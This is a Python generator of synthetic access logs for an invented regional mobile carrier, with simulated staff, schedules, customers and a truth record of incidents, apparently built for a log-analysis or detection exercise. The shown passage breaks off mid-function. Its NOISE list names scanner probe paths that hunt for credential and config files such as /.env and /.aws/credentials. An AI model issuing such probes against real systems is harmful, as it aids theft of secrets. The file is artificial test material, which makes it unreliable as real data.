"""Setouchi Mobile, an invented regional mobile carrier: its access logs, settings and the truth about them.

    python carrier.py --seed 7 --days 35 --out DIR

Sites: shop-001 ... (counter gateways of own and partner shops), callcentre (outsourced), portal (customers), backoffice
(identity checks, number portability), dealer (extranet of the partners), www (public). One random.Random(seed), no clock.
"""

from __future__ import annotations

import argparse
import csv
import gzip
import json
import random
from dataclasses import dataclass, field
from datetime import date, datetime, timedelta
from pathlib import Path
from typing import Callable, Iterable, NamedTuple

HOLIDAYS = {
    date(2026, m, d)
    for m, d in [
        (2, 23),
        (3, 20),
        (4, 29),
        (5, 3),
        (5, 4),
        (5, 5),
        (5, 6),
        (7, 20),
        (8, 11),
        (9, 21),
        (9, 22),
        (9, 23),
        (10, 12),
        (11, 3),
        (11, 23),
    ]
}
QUIET = {date(2026, 5, 1)} | {
    date(2026, 8, d) for d in (12, 13, 14)
}  # bridge days, Obon: many are on leave
N_CONTRACTS, FIRST_CONTRACT = 30_000, 40_100_000
PARTNERS: dict[str, tuple[str, list[str]]] = {  # company -> shops; the own shops first
    "own": ("瀬戸内モバイル", ["001", "002", "004", "010"]),
    "hinode": ("ひので通信", ["003", "005", "008"]),
    "kaede": ("楓テレコム", ["006", "011"]),
    "umi": ("海商事", ["009", "012", "014"]),
    "tokiwa": ("ときわ電器", ["007"]),
    "ishizuchi": ("石鎚モバイル", ["013", "015", "016"]),
}
NEW_SHOP = "017"  # kaede opens it during the period
SURNAMES = (
    "sato 佐藤 suzuki 鈴木 takahashi 高橋 tanaka 田中 ito 伊藤 watanabe 渡辺 yamamoto 山本 nakamura 中村 kobayashi 小林 kato 加藤 "
    "yoshida 吉田 yamada 山田 sasaki 佐々木 matsumoto 松本 inoue 井上 kimura 木村 hayashi 林 shimizu 清水 mori 森 abe 阿部 ikeda 池田 "
    "hashimoto 橋本 ishikawa 石川 ogawa 小川 maeda 前田 fujita 藤田 okada 岡田 goto 後藤 hasegawa 長谷川 murakami 村上 kondo 近藤 "
    "ochi 越智 kono 河野 takechi 武智 nishida 西田 miyoshi 三好 soga 曽我 ninomiya 二宮 kamei 亀井 oda 小田"
).split()
NAMES = list(zip(SURNAMES[::2], SURNAMES[1::2]))
EDGE = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{v}.0.0.0 Safari/537.36 Edg/{v}.0.0.0"
CHROME = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{v}.0.0.0 Safari/537.36"
PHONES = [
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.4 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_6_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 26_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.0 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 15; SO-51E) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/138.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Linux; Android 14; A303SH) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/136.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Linux; Android 13; FCG02) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Mobile Safari/537.36",
]
DESKS = [
    CHROME.format(v=138),
    EDGE.format(v=138),
    CHROME.format(v=136),
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.3 Safari/605.1.15",
]
GOOGLEBOT = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
BINGBOT = "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)"
OTHER_BOTS = [
    (
        "85.208.96.201",
        "Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)",
    ),
    ("54.36.148.40", "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)"),
    (
        "114.111.32.88",
        "Mozilla/5.0 (compatible; Y!J-WSC/1.0; +https://support.yahoo-net.jp/PccSearch/s/article/H000007955)",
    ),
]
NOISE = [
    "/.env",
    "/.git/config",
    "/wp-login.php",
    "/xmlrpc.php",
    "/phpmyadmin/index.php",
    "/boaform/admin/formLogin",
    "/actuator/health",
    "/cgi-bin/luci/;stok=/locale",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/owa/auth/logon.aspx",
    "/server-status",
    "/manager/html",
    "/solr/admin/info/system",
    "/HNAP1",
    "/config.json",
    "/backup.zip",
    "/.aws/credentials",
    "/login.action",
]
WWW_PAGES = [
    "/",
    "/plan/",
    "/plan/light",
    "/plan/family",
    "/phones/",
    "/phones/iphone",
    "/phones/pixel",
    "/shops/",
    "/shops/matsuyama",
    "/shops/search?q=%E6%9D%BE%E5%B1%B1",
    "/support/",
    "/support/faq?id=12",
    "/support/mnp",
    "/news/",
    "/campaign/student",
    "/contact",
]
BANDS = {"kyc": "10.20.3", "mnp": "10.20.4", "desk": "10.20.5", "vpn": "10.40.1"}


Row = NamedTuple(
    "Row",
    [
        ("t", datetime),
        ("seq", int),
        ("ip", str),
        ("user", "str | None"),
        ("method", str),
        ("target", str),
        ("status", int),
        ("size", int),
        ("ua", str),
        ("ref", "str | None"),
        ("sess", "str | None"),
        ("ms", int),
    ],
)  # one request


@dataclass
class Person:
    """Somebody who signs in, and how he works."""

    user: str
    name: str
    dept: str
    site: str
    kind: str
    company: str
    start: float
    end: float
    off: set[int]
    pace: float
    ua: str
    ip: str | None = None
    manager: str = ""
    joined: date | None = None
    left: date | None = None
    away: set[int] = field(default_factory=set)
    unlogged: float = 0.05  # share of looks without a call note or an order


class World:
    """Everything that happened, and the truth about it."""

    def __init__(self, seed: int, n_days: int) -> None:
        self.seed, self.n = seed, n_days
        self.r = random.Random(seed)
        last = date(2026, 4, 30) + timedelta(
            days=self.r.randrange((date(2026, 11, 30) - date(2026, 4, 30)).days + 1)
        )
        self.days = [last - timedelta(days=n_days - 1 - k) for k in range(n_days)]
        self.rows: dict[str, list[Row]] = {}
        self.seq = 0
        self.incidents: list[dict] = []
        self.annoyances: list[dict] = []
        self.duty: dict[tuple[str, int], tuple[float, float]] = {}
        self.used: set[str] = set()  # actors that already have a part
        self.customers: dict[int, tuple[str, str]] = {}
        self.busy: set[tuple[str, date]] = set()  # site and day of the incidents so far
        self.sessions: dict[tuple[str, date, str], tuple[str, str | None]] = {}
        self.mark = 0
        self.total: dict[date, int] = {}
        self.pool: list[str] = []  # applications that wait
        self.make_people()
        self.make_calendar()

    # ---------------------------------------------------------------- small helpers
    def at(self, k: int, hour: float) -> datetime:
        """The moment `hour` (24 or more is the next morning) of day number k."""
        return datetime.combine(self.days[0], datetime.min.time()) + timedelta(
            days=k, seconds=hour * 3600
        )

    def add(
        self,
        site: str,
        t: datetime,
        ip: str,
        user: str | None,
        method: str,
        target: str,
        status: int = 200,
        size: int | None = None,
        ua: str = "",
        ref: str | None = None,
        sess: str | None = None,
    ) -> None:
        """Write a request down (only if it lies within the days)."""
        self.seq += 1
        if size is None:
            size = (
                int(self.r.lognormvariate(8.9, 0.5))
                if status == 200
                else self.r.randrange(180, 620)
            )
        ms = int(self.r.lognormvariate(4.6, 0.7)) + size // 20_000
        if self.days[0] <= t.date() <= self.days[-1]:
            if user and sess:
                self.sessions.setdefault((user, t.date(), site), (ip, sess))
            self.rows.setdefault(site, []).append(
                Row(t, self.seq, ip, user, method, target, status, size, ua, ref, sess, ms)
            )

    def heavy(self, mean: float, shape: float = 5.0) -> int:
        """A count with a heavy tail: gamma-mixed, now and then much more."""
        x = self.r.gammavariate(shape, mean / shape)
        if self.r.random() < 0.02:
            x *= self.r.uniform(1.5, 2.2)
        return int(x + self.r.random())

    def sid(self) -> str:
        """A session cookie's value."""
        return f"{self.r.getrandbits(96):024x}"

    def home(self) -> str:
        """An address of a home line in Japan."""
        r = self.r
        return f"{r.choice([60, 110, 118, 122, 126, 153, 180, 219])}.{r.randrange(20, 240)}.{r.randrange(256)}.{r.randrange(1, 255)}"

    def hosting(self) -> str:
        """An address of a hosting company."""
        r = self.r
        return f"{r.choice(['45.76', '139.180', '64.176', '91.92', '185.225', '103.136'])}.{r.randrange(256)}.{r.randrange(1, 255)}"

    def cgnat(self) -> str:
        """The carrier's own mobile network: all phones come from sixteen addresses."""
        return f"103.250.44.{16 + self.r.randrange(16)}"

    def contract(self) -> int:
        """A contract; some are looked at more often than others."""
        return FIRST_CONTRACT + (int(N_CONTRACTS * self.r.random() ** 1.5) * 7919) % N_CONTRACTS

    def client_of(self, shop: str) -> int:
        """A contract, mostly of the shop's own clientele."""
        if self.r.random() < 0.85:
            return FIRST_CONTRACT + int(shop) + 20 * self.r.randrange(N_CONTRACTS // 20 - 1)
        return self.contract()

    def customer(self, c: int) -> tuple[str, str]:
        """Home address and agent of a customer."""
        if c not in self.customers:
            self.customers[c] = (
                self.home(),
                self.r.choice(PHONES) if self.r.random() < 0.75 else self.r.choice(DESKS),
            )
        return self.customers[c]

    # ---------------------------------------------------------------- people
    def make_people(self) -> None:
        """Clerks, agents, back office, partners' offices, accounts of programs."""
        r = self.r
        self.people: list[Person] = []
        taken: set[str] = set()

        def name(prefix: str, tail: bool = True) -> tuple[str, str]:
            while True:
                latin, kanji = r.choice(NAMES)
                user = f"{prefix}{latin}" + (f".{r.choice('aehikmnrsty')}" if tail else "")
                if user not in taken:
                    taken.add(user)
                    return user, kanji + " " + r.choice(
                        "葵 蓮 陽菜 健太 美咲 翔 結衣 大輔 恵 直樹 千尋 亮 真由 拓也 香織 誠".split()
                    )

        def person(
            user: tuple[str, str],
            dept: str,
            site: str,
            kind: str,
            company: str,
            start: float,
            end: float,
            off: set[int],
            pace: float,
            ip: str | None = None,
        ) -> Person:
            p = Person(
                user[0],
                user[1],
                dept,
                site,
                kind,
                company,
                start,
                end,
                off,
                pace,
                EDGE.format(v=r.choice([136, 138])),
                ip,
            )
            p.joined = date(2026, 2, 1) - timedelta(days=r.randrange(20, 3000))
            if r.random() < 0.25:  # a holiday of some days
                s = r.randrange(self.n)
                p.away = set(range(s, s + r.choice([2, 3, 5])))
            p.away |= {
                k
                for k in range(self.n)
                if r.random() < 0.03 or (self.days[k] in QUIET and r.random() < 0.45)
            }
            self.people.append(p)
            return p

        self.clerks: dict[str, list[Person]] = {}
        self.managers: list[Person] = []
        for key, (company, shops) in PARTNERS.items():
            for shop in shops + ([NEW_SHOP] if key == "kaede" else []):
                prefix, kind = (
                    (f"st{shop}-", "staff") if key == "own" else (f"fr{shop}-", "franchise")
                )
                team = []
                for j in range(r.choice([4, 4, 5, 5, 6, 7])):
                    part = j > 2 and r.random() < 0.5
                    days_off = set(r.sample(range(7), 4 if part else 2))
                    p = person(
                        name(prefix),
                        "shop",
                        f"shop-{shop}",
                        kind,
                        company,
                        9.75 if not part else 12.5,
                        19.2 if not part else 17.2,
                        days_off,
                        r.lognormvariate(0, 0.35),
                    )
                    p.unlogged = r.uniform(0.3, 0.55)
                    team.append(p)
                for p in team:
                    p.manager = team[0].user
                self.clerks[shop] = team
            if key != "own":
                office = self.home()
                for j in range(1 if len(shops) < 3 else 2):
                    self.managers.append(
                        person(
                            name(f"fr{shops[j]}-"),
                            "partner-office",
                            "dealer",
                            "franchise",
                            company,
                            9.0,
                            18.5,
                            {5, 6},
                            1.0,
                            office,
                        )
                    )
        self.agents = []
        for j in range(36):
            late = j % 3 == 0
            p = person(
                (f"cc{2101 + j * 3}", name("x")[1]),
                "callcentre",
                "callcentre",
                "contractor",
                "南海コンタクト",
                11.0 if late else 8.9,
                20.1 if late else 18.1,
                {(j * 2) % 7, (j * 2 + 1) % 7},
                r.lognormvariate(0, 0.25),
                "203.141.22.10" if j % 2 else "219.113.80.66",
            )
            p.unlogged = min(0.12, r.lognormvariate(-3.1, 0.5))
            if j % 9 == 5:
                p.ip = self.home()  # works at home
            self.agents.append(p)
        self.night = [
            person(
                (f"cc{2901 + j}", name("x")[1]),
                "callcentre-night",
                "callcentre",
                "contractor",
                "南海コンタクト",
                20.0,
                32.0,
                set(),
                0.8,
                "203.141.22.10",
            )
            for j in range(5)
        ]
        self.office: dict[str, list[Person]] = {}
        for dept, count, band in [
            ("identity", 12, "kyc"),
            ("mnp", 7, "mnp"),
            ("billing", 6, "desk"),
            ("support", 8, "desk"),
            ("dealer-mgmt", 5, "desk"),
            ("it", 3, "desk"),
        ]:
            self.office[dept] = [
                person(
                    name("SETO\\"),
                    dept,
                    "backoffice",
                    "staff",
                    "瀬戸内モバイル",
                    8.8 + r.random() * 0.5,
                    17.8 + r.random(),
                    {5, 6} if dept != "identity" or j % 2 else {j % 5, (j + 3) % 7},
                    r.lognormvariate(0, 0.3),
                    f"{BANDS[band]}.{21 + j}",
                )
                for j in range(count)
            ]
            for p in self.office[dept]:
                p.manager = self.office[dept][0].user
                if r.random() < 0.25:
                    p.ip = f"{BANDS['vpn']}.{r.randrange(10, 90)}"
        self.maint = Person(
            "SETO\\maint02",
            "",
            "vendor",
            "backoffice",
            "contractor",
            "四国システムズ",
            10,
            16,
            set(),
            1,
            EDGE.format(v=136),
            "10.40.1.200",
        )
        # who leaves: two agents in the middle, one from the back office soon after the last day, one more quite normally
        self.gone = r.sample(self.agents[1:], 2)
        for p in self.gone:
            p.left = self.days[r.randrange(12, 15)]
        self.leaving = r.choice(self.office["dealer-mgmt"][1:])
        self.leaving.left = self.days[-1] + timedelta(days=r.randrange(3, 12))
        r.choice(self.office["billing"][1:]).left = self.days[-1] + timedelta(
            days=r.randrange(5, 20)
        )

    def here(self, p: Person, k: int) -> bool:
        """Whether somebody works on day k."""
        d = self.days[k]
        if (
            (p.joined and d < p.joined)
            or (p.left and d > p.left)
            or k in p.away
            or d.weekday() in p.off
        ):
            return False
        return not (p.site in ("backoffice", "dealer") and d in HOLIDAYS and p.dept != "identity")

    # ---------------------------------------------------------------- calendar and what is annoying in it
    def note(
        self, first: int, last: int, sites: list[str], actors: list[str], what: str, why_not: str
    ) -> None:
        """An annoyance for truth.json."""
        first, last = max(0, first), min(self.n - 1, last)
        self.annoyances.append(
            {
                "id": f"a{len(self.annoyances) + 1:02d}",
                "first_day": str(self.days[first]),
                "last_day": str(self.days[last]),
                "site_ids": sites,
                "actors": actors,
                "what": what,
                "why_not": why_not,
            }
        )

    def weekday(self, lo: int, hi: int) -> int:
        """A day between lo and hi on which offices work."""
        ok = [
            k
            for k in range(max(0, lo), min(self.n, hi + 1))
            if self.days[k].weekday() < 5
            and self.days[k] not in HOLIDAYS
            and self.days[k] not in QUIET
            and self.days[k] != self.days[self.storm]
        ]
        return self.r.choice(ok)

    def make_calendar(self) -> None:
        """Dates of everything that is announced or happens to everybody."""
        r, n = self.r, self.n
        self.storm = r.randrange(15, n)
        self.campaign = next(
            k for k in range(r.randrange(15, n - 8), n) if self.days[k].weekday() == 4
        )
        self.maintenance = next(
            k for k in range(r.randrange(14, n - 8), n) if self.days[k].weekday() == 2
        )
        self.audit = next(
            k for k in range(r.randrange(14, n - 12), n) if self.days[k].weekday() == 0
        )
        self.rush = self.weekday(16, n - 5)
        self.deploy = self.weekday(16, n - 4)
        self.opening = r.randrange(15, n - 5)
        self.move = r.randrange(16, n - 4)
        self.moving_shop = r.choice(["007", "009", "013"])
        self.crawl = r.randrange(15, n)
        self.doubled = (r.randrange(15, n - 1), r.choice(["011", "014", "016"]))
        self.stock = self.weekday(17, n - 6)
        for p in self.clerks[NEW_SHOP]:
            p.joined = self.days[self.opening]
            p.away = set()
        self.trainee = r.choice(self.agents[20:35])
        while self.trainee in self.gone:
            self.trainee = r.choice(self.agents[20:35])
        self.trainee_from = r.randrange(14, n - 8)
        self.trainee.joined = self.days[self.trainee_from]
        self.trainee.away = set()
        self.back = r.choice([p for p in self.office["support"][1:]])
        self.back_from = r.randrange(20, n - 3)
        self.back.away = set(range(2, self.back_from))  # parental leave, then back
        self.helper = r.choice([p for p in self.clerks["003"] if p.start < 10][:3])
        self.helper.off = {2, 6}
        self.helper.away = set()
        self.used |= {self.helper.user, self.trainee.user, self.back.user}
        for p in self.clerks["003"]:
            p.off -= {1} if p.start < 10 else set()
        self.auditor = Person(
            "SETO\\aud-ext1",
            "監査 一郎",
            "audit",
            "backoffice",
            "contractor",
            "燧監査法人",
            9.5,
            17,
            {5, 6},
            1,
            CHROME.format(v=136),
            "10.20.5.90",
            "",
            self.days[self.audit],
            self.days[min(n - 1, self.audit + 4)],
        )
        self.vips = [self.contract() for _ in range(3)]
        self.decoys = [FIRST_CONTRACT + N_CONTRACTS + 5, FIRST_CONTRACT + N_CONTRACTS + 9]
        self.factor = {k: r.gammavariate(60, 1 / 60) for k in range(n)}

    def load(self, k: int, site: str) -> float:
        """How busy a site is on day k against its average."""
        d, f = self.days[k], self.factor[k]
        if site == "shop":
            f *= 1.35 if d.weekday() >= 5 or d in HOLIDAYS else 0.92
            f *= 1.5 if self.campaign <= k <= self.campaign + 2 else 1
            f *= 0.45 if k == self.storm else 1
        elif site == "callcentre":
            f *= [1.2, 1.0, 0.95, 0.95, 1.0, 0.9, 0.85][d.weekday()]
            f *= 1.7 if k == self.storm else 1.15 if k == self.storm + 1 else 1
        elif site == "portal":
            f *= (
                (1.35 if self.campaign <= k <= self.campaign + 2 else 1)
                * (1.4 if d.day in (10, 11) else 1)
                * (1.3 if k == self.storm else 1)
            )
        elif site == "kyc":
            f *= (
                1.6
                if self.rush <= k <= self.rush + 2
                else 1.25
                if self.campaign <= k <= self.campaign + 3
                else 1
            )
        if site in ("billing", "dealer"):
            f *= 2.2 if d.day <= 2 or (d + timedelta(days=2)).day <= 2 else 1
        return f

    # ---------------------------------------------------------------- a usual day
    def sign_in(
        self, site: str, p: Person, k: int, hour: float, ip: str, path: str, sess: str
    ) -> None:
        """A log-in, now and then with typing errors (more after holidays)."""
        before = self.days[max(0, k - 1)]
        slips = 0.22 if before in HOLIDAYS or before.weekday() == 6 else 0.07
        t = self.at(k, hour)
        while self.r.random() < slips:
            self.add(site, t, ip, p.user, "POST", path, 401, ua=p.ua, sess=None)
            t += timedelta(seconds=self.r.randrange(6, 50))
        self.add(site, t, ip, p.user, "POST", path, 302, ua=p.ua, sess=sess)

    def spread(self, count: int, start: float, end: float) -> list[float]:
        """Hours of work between start and end, with a lunch break."""
        noon = self.r.choice([12.0, 12.0, 12.5, 13.0])
        return sorted(
            h
            for h in (self.r.uniform(start, end) for _ in range(count))
            if not noon <= h < noon + 0.9
        )

    def visit(
        self,
        shop: str,
        p: Person,
        k: int,
        hour: float,
        ip: str,
        sess: str,
        c: int,
        order: bool,
        calls: bool,
    ) -> None:
        """A customer at the counter."""
        site, t, base = f"shop-{shop}", self.at(k, hour), f"/counter/contracts/{c}"
        self.add(site, t, ip, p.user, "POST", "/counter/search", 200, ua=p.ua, sess=sess)
        self.add(
            site,
            t + timedelta(seconds=self.r.randrange(5, 30)),
            ip,
            p.user,
            "GET",
            base,
            ua=p.ua,
            sess=sess,
        )
        if calls:
            self.add(
                site,
                t + timedelta(seconds=90),
                ip,
                p.user,
                "GET",
                base + "/calls",
                ua=p.ua,
                sess=sess,
            )
        if order:
            self.add(
                site,
                t + timedelta(seconds=self.r.randrange(60, 240)),
                ip,
                p.user,
                "POST",
                base + "/idcheck",
                ua=p.ua,
                sess=sess,
            )
            kind = "sim" if self.r.random() < 0.18 else "orders"
            self.add(
                site,
                t + timedelta(seconds=self.r.randrange(400, 1500)),
                ip,
                p.user,
                "POST",
                f"{base}/{kind}",
                ua=p.ua,
                sess=sess,
            )

    def shop_day(self, shop: str, k: int) -> None:
        """Counter work in one shop; closed every second Wednesday in the partners' shops."""
        d, r, site = self.days[k], self.r, f"shop-{shop}"
        if shop == NEW_SHOP and k < self.opening or self.closed(shop, k):
            return
        band = (
            f"10.31.{int(shop)}"
            if not (shop == self.moving_shop and k >= self.move)
            else f"10.31.{100 + int(shop)}"
        )
        close = 15.0 if k == self.storm else 19.0
        team = [
            p
            for p in self.clerks[shop]
            if self.here(p, k) and not (p is self.helper and d.weekday() == 1)
        ] or [p for p in self.clerks[shop] if p is not self.helper][:1]
        if shop == "005" and d.weekday() == 1 and self.here(self.helper, k):
            team = team + [self.helper]
        first = 12.9 if shop == self.moving_shop and k == self.move else 0
        for p in team:
            start, end = max(p.start, first) + r.uniform(-0.15, 0.2), min(p.end, close + 0.2)
            if p.joined and d < p.joined or start > end - 1:
                continue
            self.duty[p.user, k] = (start, end)
            sess, own = self.sid(), f"{band}.{11 + r.randrange(4)}"
            self.sign_in(site, p, k, start, own, "/counter/login", sess)
            mean = (
                7.5
                * p.pace
                * self.load(k, "shop")
                * (end - start)
                / 9.3
                * (1.6 if shop == NEW_SHOP and k < self.opening + 2 else 1)
            )
            for h in self.spread(self.heavy(mean), start + 0.2, end - 0.6):
                ip = own if r.random() < 0.8 else f"{band}.{11 + r.randrange(4)}"
                self.visit(
                    shop,
                    p,
                    k,
                    h,
                    ip,
                    sess,
                    self.client_of(shop),
                    r.random() > p.unlogged,
                    r.random() < 0.07,
                )
            if r.random() < 0.15:
                self.add(
                    site,
                    self.at(k, start + 0.05),
                    own,
                    p.user,
                    "GET",
                    "/counter/old/top.do",
                    404,
                    ua=p.ua,
                    sess=sess,
                )
            self.add(
                site,
                self.at(k, end - r.random() * 0.1),
                own,
                p.user,
                "GET",
                "/counter/logout",
                302,
                ua=p.ua,
                sess=sess,
            )
        for j in range(24):
            self.add(
                site,
                self.at(k, j + 0.02 + int(shop) / 100),
                f"{band}.2",
                None,
                "GET",
                "/counter/health",
                200,
                15,
                ua="gw-health/1.4",
            )

    def closed(self, shop: str, k: int) -> bool:
        """Partners' shops rest on the second and fourth Wednesday."""
        d = self.days[k]
        return shop not in PARTNERS["own"][1] and d.weekday() == 2 and (d.day - 1) // 7 in (1, 3)

    def call(
        self,
        p: Person,
        k: int,
        hour: float,
        ip: str,
        sess: str,
        c: int,
        noted: bool,
        night: bool = False,
    ) -> None:
        """A call: search, the customer's page, perhaps bill or usage, the note after it."""
        r, t = self.r, self.at(k, hour)
        q: Callable[..., None] = lambda s, m, u: self.add(
            "callcentre", t + timedelta(seconds=s), ip, p.user, m, u, ua=p.ua, sess=sess
        )
        q(0, "POST", "/cc/search")
        q(r.randrange(4, 25), "GET", f"/cc/customer/{c}")
        if not night and r.random() < 0.33:
            q(r.randrange(40, 120), "GET", f"/cc/customer/{c}/billing")
        if r.random() < 0.08:
            q(r.randrange(60, 160), "GET", f"/cc/customer/{c}/usage")
        if night and r.random() < 0.7:
            q(r.randrange(60, 160), "POST", f"/cc/customer/{c}/suspend")
        if noted:
            q(r.randrange(180, 900), "POST", f"/cc/calls/{self.seq % 900000 + 100000}/wrap")

    def callcentre_day(self, k: int) -> None:
        """The outsourced call centre: day shifts, and a night desk for lost phones."""
        r = self.r
        for p in self.agents:
            if not self.here(p, k):
                continue
            start, end, sess = (
                p.start + r.uniform(-0.2, 0.15),
                p.end + abs(r.gauss(0, 0.2)),
                self.sid(),
            )
            self.duty[p.user, k] = (start, end)
            ip = p.ip or ""
            self.sign_in("callcentre", p, k, start, ip, "/cc/login", sess)
            new = p is self.trainee and k < self.trainee_from + 8
            for h in self.spread(
                self.heavy((15 if not new else 5) * p.pace * self.load(k, "callcentre")),
                start + 0.1,
                end - 0.3,
            ):
                self.call(p, k, h, ip, sess, self.contract(), r.random() > p.unlogged)
            if new:  # learns by reading old cases
                for h in self.spread(self.heavy(38), start + 0.3, end - 0.5):
                    self.add(
                        "callcentre",
                        self.at(k, h),
                        ip,
                        p.user,
                        "GET",
                        f"/cc/customer/{self.contract()}",
                        ua=p.ua,
                        sess=sess,
                        ref="https://cc.setomobile.example/cc/training",
                    )
        for p in (self.night[k % 5], self.night[(k + 2) % 5]):
            sess = self.sid()
            self.sign_in("callcentre", p, k, 19.9 + r.random() * 0.2, p.ip or "", "/cc/login", sess)
            for _ in range(
                self.heavy(
                    7
                    if (self.days[k] + timedelta(days=1)) not in HOLIDAYS
                    and self.days[k].weekday() not in (4, 5)
                    else 13
                )
            ):
                self.call(
                    p,
                    k,
                    r.uniform(20.2, 31.5),
                    p.ip or "",
                    sess,
                    self.contract(),
                    r.random() > 0.05,
                    night=True,
                )

    def office_day(self, k: int) -> None:
        """Identity checks, number portability, billing, support, dealer management, IT, and the programs' accounts."""
        r, d = self.r, self.days[k]
        work = d.weekday() < 5 and d not in HOLIDAYS
        bo: Callable[..., None] = lambda p, h, m, u, st=200, size=None, ip=None: self.add(
            "backoffice", self.at(k, h), ip or p.ip, p.user, m, u, st, size, ua=p.ua
        )
        fresh = [f"A{d:%y%m%d}{j:04d}" for j in range(1, int(230 * self.load(k, "kyc")) + 1)]
        self.pool = ([a for a in self.pool if r.random() < 0.35] + fresh)[-420:]
        late = 2.5 if work and (d + timedelta(days=1)) in HOLIDAYS else 0
        for dept, team in self.office.items():
            for p in team:
                if not self.here(p, k):
                    continue
                overtime = late * r.random() if dept in ("billing", "mnp", "identity") else 0
                start, end = p.start + r.uniform(-0.2, 0.3), p.end + abs(r.gauss(0, 0.5)) + overtime
                self.duty[p.user, k] = (start, end)
                for j in range(2):
                    self.add(
                        "backoffice",
                        self.at(k, start + j * 0.0004),
                        p.ip or "",
                        None,
                        "GET",
                        "/",
                        401,
                        1293,
                        ua=p.ua,
                    )
                bo(p, start + 0.001, "GET", "/")
                if dept == "identity":
                    for h in self.spread(
                        self.heavy(20 * p.pace * self.load(k, "kyc"), 9), start + 0.2, end - 0.1
                    ):
                        a = r.choice(self.pool)
                        if r.random() < 0.4:
                            bo(p, h - 0.004, "GET", "/kyc/queue?page=1")
                        bo(p, h, "GET", f"/kyc/application?no={a}")
                        for side in ("front", "back"):
                            bo(
                                p,
                                h + 0.004,
                                "GET",
                                f"/kyc/image?no={a}&side={side}",
                                200,
                                r.randrange(180_000, 900_000),
                            )
                        bo(p, h + r.uniform(0.012, 0.06), "POST", f"/kyc/decision?no={a}", 302)
                    for _ in range(self.heavy(0.9, 1)):  # a question about an old one
                        a = f"A{d - timedelta(days=r.randrange(3, 40)):%y%m%d}{r.randrange(1, 200):04d}"
                        h = r.uniform(start + 0.3, end - 0.1)
                        bo(p, h, "GET", f"/kyc/application?no={a}")
                        if r.random() < 0.3:
                            bo(
                                p,
                                h + 0.005,
                                "GET",
                                f"/kyc/image?no={a}&side=front",
                                200,
                                r.randrange(180_000, 900_000),
                            )
                elif dept == "mnp":
                    for h in self.spread(
                        self.heavy(18 * p.pace * self.load(k, "kyc")), start + 0.2, end - 0.1
                    ):
                        c = self.contract()
                        bo(p, h, "GET", f"/mnp/port?no={c}")
                        if r.random() < 0.6:
                            bo(p, h + 0.03, "POST", f"/mnp/confirm?no={c}", 302)
                elif dept == "it":
                    for h in self.spread(self.heavy(6), start + 0.2, end):
                        bo(
                            p,
                            h,
                            "GET",
                            r.choice(
                                [
                                    "/admin/health",
                                    "/admin/jobs",
                                    "/admin/users?page=1",
                                    "/admin/audit",
                                ]
                            ),
                        )
                else:
                    mean = {
                        "billing": 16 * self.load(k, "billing"),
                        "support": 15.0,
                        "dealer-mgmt": 6 * self.load(k, "dealer"),
                    }[dept] * p.pace
                    for h in self.spread(self.heavy(mean), start + 0.2, end - 0.1):
                        bo(p, h, "GET", f"/customers/detail.aspx?no={self.contract()}")
                        if r.random() < 0.3:
                            bo(p, h + 0.02, "POST", "/customers/edit.aspx", 302)
                    if dept in ("billing", "dealer-mgmt") and r.random() < (
                        0.25 if self.load(k, "billing") < 1.8 else 0.8
                    ):
                        what = "unpaid" if dept == "billing" else "contracts"
                        bo(
                            p,
                            r.uniform(start + 0.5, end - 0.3),
                            "GET",
                            f"/export/{what}.csv?shop={r.randrange(1, 17):03d}",
                            200,
                            int(r.lognormvariate(11.8, 0.5)),
                        )
                if p is self.back and k < self.back_from + 3:
                    for h in self.spread(self.heavy(32), start + 0.4, end - 0.2):
                        bo(p, h, "GET", f"/customers/history.aspx?no={self.contract()}")
        svc = Person(
            "SETO\\svc-mnp",
            "",
            "",
            "backoffice",
            "system",
            "",
            0,
            0,
            set(),
            1,
            "Apache-HttpClient/4.5.14 (Java/17.0.9)",
            "10.20.0.31",
        )
        for j in range(self.heavy(90 if d.day != 1 else 230, 12)):
            bo(svc, 2.05 + j * 0.0021, "POST", f"/api/mnp/port?no={self.contract()}", 200, 420)
        if d.weekday() == 3:  # the vendor looks after the machines
            for h in self.spread(self.heavy(9), 10.2, 15.5):
                bo(self.maint, h, "GET", r.choice(["/admin/health", "/admin/jobs", "/admin/disk"]))
        if self.here(self.auditor, k):
            for h in self.spread(self.heavy(60, 20), 9.6, 16.8):
                a = f"A{d - timedelta(days=r.randrange(20, 60)):%y%m%d}{r.randrange(1, 200):04d}"
                bo(
                    self.auditor,
                    h,
                    "GET",
                    f"/kyc/application?no={a}"
                    if r.random() < 0.6
                    else f"/customers/detail.aspx?no={self.contract()}",
                )
        if (
            self.stock <= k <= self.stock + 3 and work
        ):  # documents past their time are looked through
            for p in self.office["identity"][1:4]:
                if self.here(p, k):
                    for h in self.spread(self.heavy(22, 12), 13.5, 17.5):
                        a = f"A{d - timedelta(days=r.randrange(1095, 1125)):%y%m%d}{r.randrange(1, 200):04d}"
                        bo(p, h, "GET", f"/kyc/application?no={a}")
                        bo(p, h + 0.01, "POST", f"/kyc/purge?no={a}", 302)
        if d.weekday() < 5 and r.random() < 0.5:
